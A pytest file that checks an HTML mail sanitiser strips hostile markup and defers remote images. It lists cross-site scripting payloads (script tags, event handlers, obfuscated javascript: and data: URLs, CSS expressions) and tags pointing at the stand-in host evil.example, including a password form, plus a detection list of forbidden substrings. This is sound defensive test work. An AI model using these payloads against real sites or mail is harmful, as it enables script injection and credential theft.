"""Hostile HTML mail comes out of the sanitiser harmless: nothing runs, nothing loads."""

from __future__ import annotations

import pytest

from sluice.space.sanitize import REMOTE_SRC, cid_resolver, sanitize_html, text_to_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<p onclick=\"alert(1)\" onmouseover=alert(2)>x</p>",
    "<a href=\"javascript:alert(1)\">j</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">j</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">j</a>",
    "<a href=\"vbscript:msgbox(1)\">v</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">d</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<div style=\"width: expression(alert(1))\">css</div>",
    "<div style=\"background:url(javascript:alert(1))\">css</div>",
    "<style>body { background: url(javascript:alert(1)) }</style>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<form action=\"https://evil.example/\"><input name=p type=password><button>go</button>"
    "</form>",
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object><embed src=x>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<a href=\"/api/posts/1/comments\">relative</a>",
    "<<script>script>alert(1)<</script>/script>",
    "<!--<img src=x onerror=alert(1)>-->",
]
FORBIDDEN = ["<script", "onload", "onclick", "onerror", "onmouseover", "javascript:",
             "vbscript:", "data:", "expression(", "<style", "<svg", "<math", "<base", "<meta",
             "<link", "<form", "<input", "<button", "<iframe", "<object", "<embed", "style=",
             "href=\"/", "evil.example"]


@pytest.mark.parametrize("markup", HOSTILE)
def test_hostile_markup_is_defused(markup: str) -> None:
    clean = sanitize_html(f"<p>before</p>{markup}<p>after</p>")
    lowered = clean.lower()
    for needle in FORBIDDEN:
        assert needle not in lowered, (needle, clean)
    assert "before" in clean and "after" in clean


def test_links_open_safely_and_keep_ordinary_targets() -> None:
    clean = sanitize_html('<a href="https://example.com/a?b=1&c=2">doc</a> '
                          '<a href="mailto:ann@example.com">mail</a>')
    assert 'href="https://example.com/a?b=1&amp;c=2"' in clean
    assert 'href="mailto:ann@example.com"' in clean
    assert clean.count('rel="noopener noreferrer nofollow"') == 2


def test_remote_images_are_not_loaded_until_asked() -> None:
    clean = sanitize_html('<img src="https://tracker.example/p.gif?u=ann" alt="logo">')
    assert " src=" not in clean
    assert f'{REMOTE_SRC}="https://tracker.example/p.gif?u=ann"' in clean
    assert 'alt="logo"' in clean


def test_cid_images_point_at_the_posts_own_parts_or_vanish() -> None:
    resolve = cid_resolver({"logo@x": "/api/posts/7/attachments/" + "a" * 64})
    clean = sanitize_html('<img src="cid:logo@x"><img src="cid:unknown@x">', resolve,
                          "/api/posts/7/")
    assert clean.count("<img") == 2
    assert f'src="/api/posts/7/attachments/{"a" * 64}"' in clean
    assert clean.count("src=") == 1
    # A resolver can never smuggle a URL outside the post's own prefix.
    sneaky = cid_resolver({"x": "/admin/delete"})
    assert "src=" not in sanitize_html('<img src="cid:x">', sneaky, "/api/posts/7/")


def test_text_escapes_markup_and_keeps_lines() -> None:
    html = text_to_html("a <b>bold</b> & co\nnext line\n\nnew paragraph")
    assert html == ("<p>a &lt;b&gt;bold&lt;/b&gt; &amp; co<br>next line</p>"
                    "<p>new paragraph</p>")


def test_layout_tables_and_text_survive() -> None:
    clean = sanitize_html("<table><tr><td colspan=2 style='color:red'>Q3 &lt;plan&gt;</td>"
                          "</tr></table>")
    assert '<td colspan="2">Q3 &lt;plan&gt;</td>' in clean
